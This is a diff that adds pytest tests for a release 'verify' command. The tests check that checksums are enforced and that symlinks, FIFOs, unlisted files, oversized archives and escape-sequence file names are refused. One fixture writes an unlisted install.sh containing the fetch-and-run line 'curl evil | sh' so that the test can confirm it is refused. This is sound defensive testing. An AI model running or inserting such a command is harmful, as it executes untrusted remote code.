@@ -1,0 +1,214 @@
+"""`verify` through the command line: real folders, links, FIFOs, and the JSON answer."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from typing import TYPE_CHECKING, Any
+
+import jsonschema
+import pytest
+
+from toolkit import schemas
+from toolkit.pack.tree import Tree
+from toolkit.release.archive import write_archive
+from toolkit.release.limits import MAX_ARCHIVE_BYTES
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.release.workshop import Workshop
+
+ARCHIVE = "acme.api-1.0.0.tar.gz"
+
+
+@pytest.fixture
+def release(workshop: Workshop) -> Path:
+    """Return a good release folder."""
+    assert workshop.run("release-archive").code == 0
+    return workshop.root / "dist/acme.api/1.0.0"
+
+
+def asked(workshop: Workshop, path: Path) -> tuple[int, Any]:
+    """Return exit code and JSON answer, after validating the answer with its schema."""
+    answer = workshop.run("verify", str(path), "--format", "json")
+    found = json.loads(answer.out)
+    jsonschema.Draft202012Validator(schemas.load("verification.v1")).validate(found)
+    assert str(workshop.root) not in answer.out
+    return answer.code, found
+
+
+def test_the_schema_is_one() -> None:
+    """The published schema is valid draft 2020-12."""
+    jsonschema.Draft202012Validator.check_schema(schemas.load("verification.v1"))
+
+
+def test_a_good_release(workshop: Workshop, release: Path) -> None:
+    """Consistent, smoke passes: exit 0, and never more than "checksums only"."""
+    code, found = asked(workshop, release)
+
+    assert code == 0
+    assert found["outcome"] == "checksums only"
+    assert found["signature"] == "none"
+    assert found["passed"] is True
+    assert found["release"]["rebuilt"] is True
+    assert found["smoke"] == {"status": "pass", "failures": []}
+    assert [step["status"] for step in found["steps"]].count("pass") == 6
+
+
+@pytest.mark.parametrize("form", ["text", "md"])
+def test_pages_for_people_say_what_is_not_proven(
+    workshop: Workshop, release: Path, form: str
+) -> None:
+    """No report calls an unsigned release verified."""
+    answer = workshop.run("verify", str(release), "--format", form)
+
+    assert answer.code == 0
+    assert "checksums only" in answer.out
+    assert "Nobody has signed them" in " ".join(answer.out.split())
+    assert "verified" not in answer.out
+
+
+def test_a_lone_archive(workshop: Workshop, release: Path) -> None:
+    """There is nothing to compare it with, and the answer says so."""
+    code, found = asked(workshop, release / ARCHIVE)
+
+    assert (code, found["outcome"]) == (0, "archive only")
+
+
+def test_answers_are_stable(workshop: Workshop, release: Path) -> None:
+    """The same release gives the same answer, byte for byte, wherever it lies."""
+    shutil.copytree(release, workshop.root / "other" / release.name)
+
+    one = workshop.run("verify", str(release), "--format", "json").out
+    two = workshop.run("verify", f"other/{release.name}", "--format", "json").out
+
+    assert one == two
+
+
+def refusal(workshop: Workshop, path: Path) -> str:
+    """Return the code of the refusal; the exit code is then 1."""
+    code, found = asked(workshop, path)
+    assert code == 1
+    assert found["passed"] is False
+    assert found["release"] is None
+    assert found["smoke"] is None
+    return str(found["refusal"]["code"])
+
+
+def test_a_changed_byte(workshop: Workshop, release: Path) -> None:
+    """In any file of the folder."""
+    data = (release / ARCHIVE).read_bytes()
+    (release / ARCHIVE).write_bytes(data[:-1] + bytes([data[-1] ^ 1]))
+
+    assert refusal(workshop, release) == "SUMS_MISMATCH"
+
+
+def test_101_a_link_in_the_release(workshop: Workshop, release: Path) -> None:
+    """A link to the right bytes is refused, too: it can lead elsewhere tomorrow."""
+    (release / ARCHIVE).rename(workshop.root / ARCHIVE)
+    (release / ARCHIVE).symlink_to(workshop.root / ARCHIVE)
+
+    assert refusal(workshop, release) == "RELEASE_NOT_REGULAR"
+
+
+def test_a_fifo_in_the_release(workshop: Workshop, release: Path) -> None:
+    """Nobody waits for it to be written."""
+    os.mkfifo(release / "pipe")
+
+    assert refusal(workshop, release) == "RELEASE_NOT_REGULAR"
+
+
+def test_a_folder_in_the_release(workshop: Workshop, release: Path) -> None:
+    """Releases are flat."""
+    (release / "more").mkdir()
+
+    assert refusal(workshop, release) == "RELEASE_NOT_REGULAR"
+
+
+def test_an_unlisted_file(workshop: Workshop, release: Path) -> None:
+    """What sha256sum never sees."""
+    (release / "install.sh").write_text("curl evil | sh\n", encoding="utf-8")
+
+    assert refusal(workshop, release) == "SUMS_FILE_UNLISTED"
+
+
+def test_a_huge_archive_is_not_read(workshop: Workshop, release: Path) -> None:
+    """A sparse file beyond the cap is refused by its size."""
+    huge = release.parent / ARCHIVE
+    with huge.open("wb") as file:
+        file.truncate(MAX_ARCHIVE_BYTES + 1)
+
+    assert refusal(workshop, huge) == "ARCHIVE_TOO_LARGE"
+
+
+def test_too_many_files(workshop: Workshop, release: Path) -> None:
+    """A folder of a thousand files is no release."""
+    for number in range(1000):
+        (release / f"f{number}").touch()
+
+    assert refusal(workshop, release) == "RELEASE_FILES"
+
+
+def test_a_name_with_an_escape_sequence_is_spelled_out(workshop: Workshop, release: Path) -> None:
+    """No name reaches the terminal as it is."""
+    (release / "\x1b[2J").touch()
+
+    answer = workshop.run("verify", str(release))
+
+    assert answer.code == 1
+    assert "\x1b" not in answer.out + answer.err
+
+
+def test_a_sound_archive_of_a_pack_that_fails_smoke(workshop: Workshop) -> None:
+    """The archive is not refused, and the answer is no all the same."""
+    examined = workshop.pack / "rules/security.yaml"
+    examined.write_text(examined.read_text(encoding="utf-8").replace("< 500", "<"), "utf-8")
+    files = {
+        path.relative_to(workshop.pack).as_posix(): path.read_bytes()
+        for path in workshop.pack.rglob("*")
+        if path.is_file()
+    }
+    target = workshop.root / ARCHIVE
+    target.write_bytes(write_archive(Tree.of_files(files), stem="acme.api-1.0.0"))
+
+    code, found = asked(workshop, target)
+
+    assert code == 1
+    assert found["outcome"] == "archive only"
+    assert found["passed"] is False
+    assert found["smoke"]["status"] == "fail"
+    assert found["smoke"]["failures"]
+    assert found["steps"][-1]["status"] == "refused"
+
+
+@pytest.mark.parametrize("path", ["nothing-here", "dist/nothing"])
+def test_nothing_to_judge(workshop: Workshop, path: str) -> None:
+    """No such path: the question could not be answered."""
+    answer = workshop.run("verify", path)
+
+    assert answer.code == 3
+    assert "no such file or folder" in answer.err
+
+
+def test_a_link_to_an_archive(workshop: Workshop, release: Path) -> None:
+    """Links are not followed; the message says what to give instead."""
+    (workshop.root / ARCHIVE).symlink_to(release / ARCHIVE)
+
+    answer = workshop.run("verify", ARCHIVE)
+
+    assert answer.code == 3
+    assert "not a regular file but a symbolic link" in answer.err
+
+
+def test_some_other_file(workshop: Workshop) -> None:
+    """A file that is no archive is refused as one."""
+    assert refusal(workshop, workshop.root / ".gitignore") == "GZIP_NOT_GZIP"
+
+
+def test_an_empty_folder(workshop: Workshop) -> None:
+    """A folder without sums is no release."""
+    (workshop.root / "empty").mkdir()
+
+    assert refusal(workshop, workshop.root / "empty") == "SUMS_MISSING"
